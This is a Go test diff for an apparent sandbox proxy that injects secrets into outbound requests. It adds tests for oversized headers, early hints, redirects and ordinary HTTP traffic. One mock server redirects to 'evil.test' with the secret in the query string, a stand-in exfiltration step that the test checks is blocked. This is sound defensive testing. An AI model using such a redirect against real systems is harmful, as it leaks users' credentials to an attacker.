@@ -12,7 +12,9 @@ import (
 	"net"
 	"net/http"
 	"net/http/httptest"
+	"net/http/httptrace"
 	"net/netip"
+	"net/textproto"
 	"strings"
 	"sync"
 	"sync/atomic"
@@ -591,4 +593,87 @@ func TestUnsolicited101(t *testing.T) {
 		t.Errorf("%d %q", resp.StatusCode, body)
 	}
 	w.never(body)
+}
+
+// F9: a head that grows too long by what is put into it is refused, not cut.
+func TestHeadThatGrowsTooLong(t *testing.T) {
+	long := boxlite.Secret{Name: "key", Hosts: []string{"example.com"}, Value: boxlite.NewSecretValue(strings.Repeat("R", 8000))}
+	w := newWorld(t, setting{allow: []string{"example.com"}, secrets: []boxlite.Secret{long}, trust: true}, func(http.ResponseWriter, *http.Request) {})
+	resp, body := w.do(w.client(false), "GET", "https://example.com/", "", "X-Key", strings.Repeat(ph, 20))
+	if resp.StatusCode != http.StatusRequestHeaderFieldsTooLarge || w.reached() != "" {
+		t.Errorf("%d %.100q; the host was asked %q", resp.StatusCode, body, w.reached())
+	}
+}
+
+// F18: what a host says before its answer, and where it sends the box, has no
+// value in it; A28: the box goes there by itself, and is judged anew.
+func TestEarlyHintsAndRedirects(t *testing.T) {
+	w := newWorld(t, setting{allow: []string{"example.com"}, secrets: []boxlite.Secret{key}, trust: true}, func(rw http.ResponseWriter, r *http.Request) {
+		rw.Header().Set("Link", "</"+r.Header.Get("X-Key")+">")
+		rw.WriteHeader(http.StatusEarlyHints)
+		rw.Header().Set("Location", "https://evil.test/?k="+r.Header.Get("X-Key"))
+		rw.WriteHeader(http.StatusFound)
+	})
+	var hints string
+	ctx := httptrace.WithClientTrace(context.Background(), &httptrace.ClientTrace{Got1xxResponse: func(code int, h textproto.MIMEHeader) error {
+		hints += fmt.Sprint(code, h)
+		return nil
+	}})
+	r, _ := http.NewRequestWithContext(ctx, "GET", "https://example.com/", nil)
+	r.Header.Set("X-Key", ph)
+	resp, err := w.client(true).Do(r)
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusFound || !strings.Contains(hints, "103") || !strings.Contains(hints, ph) || !strings.Contains(resp.Header.Get("Location"), ph) {
+		t.Errorf("%d %v, hints %s", resp.StatusCode, resp.Header, hints)
+	}
+	w.never(hints, fmt.Sprint(resp.Header))
+	if c, err := w.guest.DialName("evil.test", 443); err == nil {
+		c.Close()
+		t.Error("the box may follow")
+	}
+}
+
+// Ordinary traffic that is easily got wrong: answers without bodies, a HEAD, a
+// body that the box announces and waits with.
+func TestOrdinaryTraffic(t *testing.T) {
+	w := newWorld(t, setting{allow: []string{"example.com"}, secrets: []boxlite.Secret{key}, trust: true}, func(rw http.ResponseWriter, r *http.Request) {
+		switch r.URL.Path {
+		case "/204":
+			rw.WriteHeader(http.StatusNoContent)
+		case "/304":
+			rw.Header().Set("Etag", `"x"`)
+			rw.WriteHeader(http.StatusNotModified)
+		case "/length":
+			rw.Header().Set("Content-Length", "5")
+			fmt.Fprint(rw, "hello")
+		default:
+			n, err := io.Copy(io.Discard, r.Body)
+			fmt.Fprintf(rw, "%d %v %d %q", n, err, r.ContentLength, r.TransferEncoding)
+		}
+	})
+	for _, h2 := range []bool{false, true} {
+		c := w.client(h2)
+		if resp, body := w.do(c, "GET", "https://example.com/204", ""); resp.StatusCode != 204 || body != "" {
+			t.Errorf("204: %d %q", resp.StatusCode, body)
+		}
+		if resp, body := w.do(c, "GET", "https://example.com/304", ""); resp.StatusCode != 304 || body != "" || resp.Header.Get("Etag") != `"x"` {
+			t.Errorf("304: %d %q", resp.StatusCode, body)
+		}
+		if resp, body := w.do(c, "HEAD", "https://example.com/length", ""); resp.StatusCode != 200 || body != "" || resp.Header.Get("Content-Length") != "5" {
+			t.Errorf("HEAD: %d %q %v", resp.StatusCode, body, resp.Header)
+		}
+		if _, body := w.do(c, "GET", "https://example.com/length", ""); body != "hello" {
+			t.Errorf("GET: %q", body)
+		}
+		if _, body := w.do(c, "GET", "https://example.com/none", ""); body != "0 <nil> 0 []" {
+			t.Errorf("a GET without a body: %q", body)
+		}
+		large := strings.Repeat("x", 3<<20)
+		if _, body := w.do(c, "PUT", "https://example.com/up", large, "Expect", "100-continue"); !strings.HasPrefix(body, fmt.Sprint(len(large), " <nil> ", len(large))) {
+			t.Errorf("PUT: %q", body)
+		}
+	}
 }
